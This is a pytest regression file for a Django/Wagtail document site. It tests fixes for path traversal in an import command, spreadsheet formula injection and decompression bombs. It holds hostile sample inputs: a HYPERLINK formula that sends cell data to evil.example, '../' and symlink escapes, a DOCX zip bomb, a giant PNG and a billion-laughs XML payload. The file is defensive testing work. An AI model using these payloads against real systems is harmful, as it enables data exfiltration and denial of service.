"""Files coming in and going out: archive imports, uploads, spreadsheet exports.

Replays findings 7 (formula injection in XLSX downloads), 8 (decompression
bombs and huge images uploaded through the admin) and 16 (``import_content``
reading attachment paths outside the import file's folder) of issue 13.
"""

import io
import json
import shutil
import time
import zipfile
from io import StringIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from content_types.extraction import extract_text
from content_types.models import AttachmentText, PartyDocument
from content_types.tasks import extract_attachment_text
from editorial.factories import MemberFactory
from editorial.spreadsheets import text_cells
from tests.content_types.test_documents import make_docx, make_png, stored_document
from tests.content_types.test_study import publish_module

FIXTURES = Path(__file__).parents[1] / "content_types" / "files" / "archive" / "files"
Document = get_document_model()
Image_ = get_image_model()


# --- finding 16: attachment paths in import_content ------------------------------


def document_line(number, attachments):
    return {
        "kind": "document",
        "unit": "DT",
        "title": f"Văn bản {number}",
        "number": number,
        "document_type": "BC",
        "issued_on": "2024-09-26",
        "attachments": attachments,
    }


@pytest.fixture
def import_folder(tmp_path):
    """An import folder with the fixture files, and a readable PDF beside it
    (outside it) that an archive must not be able to reach."""
    folder = tmp_path / "import"
    shutil.copytree(FIXTURES, folder / "files")
    secret = tmp_path / "secret.pdf"
    shutil.copyfile(FIXTURES / "nghi-quyet-05.pdf", secret)
    (folder / "files" / "link.pdf").symlink_to(secret)
    return folder


def write_archive(folder, *lines):
    path = folder / "archive.jsonl"
    path.write_text(
        "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines), encoding="utf-8"
    )
    return path


def import_content(path):
    """Run the command in English; return (output, the CommandError or None)."""
    out = StringIO()
    with translation.override("en"):
        try:
            call_command("import_content", str(path), stdout=out, stderr=out)
        except CommandError as error:
            return out.getvalue(), error
    return out.getvalue(), None


def test_import_refuses_attachment_paths_leaving_the_folder(unit_tree, import_folder):
    """issue 13 #16: ``..``, absolute paths and symbolic links out of the import
    file's folder are refused line by line, and nothing is written."""
    secret = import_folder.parent / "secret.pdf"
    escapes = [
        "../secret.pdf",
        "files/../../secret.pdf",
        str(secret),
        "files/link.pdf",
    ]
    path = write_archive(
        import_folder,
        *(document_line(f"{n}-BC/HU", [name]) for n, name in enumerate(escapes, start=1)),
    )

    output, error = import_content(path)

    assert error is not None and "nothing was written" in str(error)
    lines = output.splitlines()
    for number, name in enumerate(escapes, start=1):
        expected = (
            f"line {number}: attachments: “{name}”: give the path relative to the import "
            "file's folder"
        )
        assert any(line.startswith(expected) for line in lines), output
    assert not PartyDocument.objects.exists()
    assert not Document.objects.exists()


def test_import_still_reads_attachments_inside_the_folder(unit_tree, import_folder):
    """issue 13 #16: a path inside the folder (even one naming its own folder
    on the way) is still imported."""
    path = write_archive(
        import_folder,
        document_line("1-BC/HU", ["files/nghi-quyet-05.pdf", "./files/ke-hoach-12.docx"]),
    )

    output, error = import_content(path)

    assert error is None, output
    document = PartyDocument.objects.get()
    assert sorted(a.document.title for a in document.attachments.all()) == [
        "ke-hoach-12",
        "nghi-quyet-05",
    ]


# --- finding 7: formulas in spreadsheet downloads --------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Xem chi tiết")'


def test_text_cells_quote_formula_starts_and_keep_numbers():
    """issue 13 #7: the one rule every export writes its rows with."""
    values = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Hà Nội", "", -5, 0.5, None]
    assert text_cells(values) == [
        "'" + HYPERLINK,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "Hà Nội",
        "",
        -5,
        0.5,
        None,
    ]


def test_study_report_download_writes_no_formula(client, unit_tree, board_user):
    """issue 13 #7: a unit named ``=HYPERLINK(...)`` and a module titled
    ``@SUM(...)`` come out of the study-report download as text, not as
    formulas; the counts stay numbers."""
    unit_tree.grassroots.name = HYPERLINK
    unit_tree.grassroots.save()
    publish_module(unit_tree.district, "@SUM(1+1) Nghị quyết", lessons=1)
    MemberFactory(branch=unit_tree.branch)
    client.force_login(board_user(unit_tree.district))

    response = client.get(reverse("study_report_xlsx"), {"unit": "DT"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    names = {row[1]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names["DT-X1"] == "'" + HYPERLINK
    header = next(sheet.iter_rows(values_only=True))
    assert header[3].startswith("'@SUM(1+1) Nghị quyết")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "DT-X1")
    assert row[2].value == 1 and row[2].data_type == "n"


# --- finding 8: decompression bombs and huge images ------------------------------

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_bomb(megabytes=20):
    """A DOCX of about 60 KB whose body unzips to ``megabytes`` MB of XML."""
    paragraph = "<w:p><w:r><w:t>Nghị quyết số 05 của Ban Chấp hành</w:t></w:r></w:p>"
    count = megabytes * 1024 * 1024 // len(paragraph.encode())
    body = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}"><w:body>'
        + paragraph * count
        + "</w:body></w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", body)
    return out.getvalue()


def huge_png(side=11000):
    """A PNG of ``side`` × ``side`` one-bit pixels: a few KB on disk, 121
    million pixels once decoded."""
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG", optimize=True)
    return out.getvalue()


def upload(client, view, name, content, collection):
    """Drop one file on the admin's multiple upload view; return (json, seconds)."""
    started = time.monotonic()
    response = client.post(
        reverse(view),
        {"files[]": SimpleUploadedFile(name, content), "collection": collection.pk},
    )
    elapsed = time.monotonic() - started
    assert response.status_code == 200
    return response.json(), elapsed


def test_docx_bomb_upload_is_refused_quickly(client, unit_tree, editor):
    """issue 13 #8: a 60 KB DOCX holding 20 MB of XML is refused by the
    document upload with a message naming the file, in well under 2 s, and
    nothing is stored."""
    bomb = docx_bomb()
    assert len(bomb) < 200 * 1024

    data, elapsed = upload(
        client, "wagtaildocs:add_multiple", "bomb.docx", bomb, unit_tree.district.collection
    )

    assert data["success"] is False
    assert "“bomb.docx” unpacks to" in data["error_message"]
    assert elapsed < 2
    assert not Document.objects.exists()
    assert not AttachmentText.objects.exists()


def test_huge_png_upload_is_refused_as_image_and_as_document(client, unit_tree, editor):
    """issue 13 #8: an 11000 × 11000 PNG of a few KB is refused by the image
    upload (Wagtail's pixel limit) and by the document upload (the same limit
    for image attachments), quickly."""
    png = huge_png()
    collection = unit_tree.district.collection

    data, elapsed = upload(client, "wagtailimages:add_multiple", "anh.png", png, collection)
    assert data["success"] is False
    assert "too many pixels" in data["error_message"]
    assert elapsed < 2

    data, elapsed = upload(client, "wagtaildocs:add_multiple", "anh.png", png, collection)
    assert data["success"] is False
    assert "“anh.png” is an image of 11000 × 11000 pixels" in data["error_message"]
    assert "40 million" in data["error_message"]
    assert elapsed < 2
    assert not Image_.objects.exists()
    assert not Document.objects.exists()


def test_ordinary_files_are_still_uploaded(client, unit_tree, editor):
    """issue 13 #8: a real DOCX and a photo-sized PNG still go in, and the
    DOCX's text is read."""
    collection = unit_tree.district.collection
    docx = make_docx(["Nghị quyết chuyển đổi số"] * 2000)

    data, _elapsed = upload(client, "wagtaildocs:add_multiple", "nq.docx", docx, collection)
    assert data["success"] is True
    document = Document.objects.get()
    row = AttachmentText.objects.get(document=document)
    assert row.status == AttachmentText.Status.EXTRACTED
    assert row.text.startswith("Nghị quyết chuyển đổi số\n")

    out = io.BytesIO()
    Image.new("RGB", (4000, 3000), "white").save(out, "PNG")
    data, _elapsed = upload(
        client, "wagtailimages:add_multiple", "anh.png", out.getvalue(), collection
    )
    assert data["success"] is True
    assert Image_.objects.get().width == 4000
    data, _elapsed = upload(client, "wagtaildocs:add_multiple", "anh.png", make_png(), collection)
    assert data["success"] is True


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p>'
    "</w:body></w:document>"
)


def entity_docx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", BILLION_LAUGHS)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"), [("bomb.docx", docx_bomb()), ("xml.docx", entity_docx())]
)
def test_stored_bombs_are_flagged_unreadable_without_reading_them(unit_tree, name, content):
    """issue 13 #8: a file stored without the upload form (an import, or one
    stored before the limits) is not parsed: entities are refused by
    defusedxml, and a bomb is reported unreadable at once, with no text."""
    document = stored_document(name, content)

    started = time.monotonic()
    extract_attachment_text.enqueue(document.pk)
    assert time.monotonic() - started < 2

    row = AttachmentText.objects.get(document=document)
    assert row.status == AttachmentText.Status.UNREADABLE
    assert row.text == "" and row.problem


def test_extraction_stops_at_the_text_budget(monkeypatch):
    """issue 13 #8: past the text budget nothing is kept (no half text)."""
    monkeypatch.setattr("content_types.extraction.MAX_TEXT_LENGTH", 1000)
    result = extract_text(io.BytesIO(make_docx(["Nghị quyết"] * 500)))
    assert not result.readable and "too large to read" in result.problem
    assert extract_text(io.BytesIO(make_docx(["Nghị quyết"] * 50))).readable
